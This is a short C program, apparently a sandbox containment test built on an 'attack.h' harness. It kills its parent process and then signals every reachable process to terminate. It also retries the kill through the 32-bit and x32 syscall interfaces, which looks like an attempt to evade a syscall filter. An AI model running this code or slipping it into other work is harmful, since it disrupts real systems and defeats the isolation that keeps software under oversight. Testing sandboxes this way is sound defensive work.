// Ends whatever it can: the processes above it one after another, then all that the kernel lets it reach.
#include "attack.h"

int main(void) {
  say("ran\n");
  fflush(stdout);
  signal(SIGTERM, SIG_IGN);
  pid_t parent = getppid();
  if (parent > 1 && kill(parent, SIGKILL) == 0) say("sent: SIGKILL above\n");
  if (kill(-1, SIGTERM) == 0) say("sent: SIGTERM to all\n");
  call32(37, -1, SIGTERM, 0, 0);
  syscall(SYS_kill | X32, -1, SIGTERM);
  kill(-1, SIGKILL);
  return 0;
}
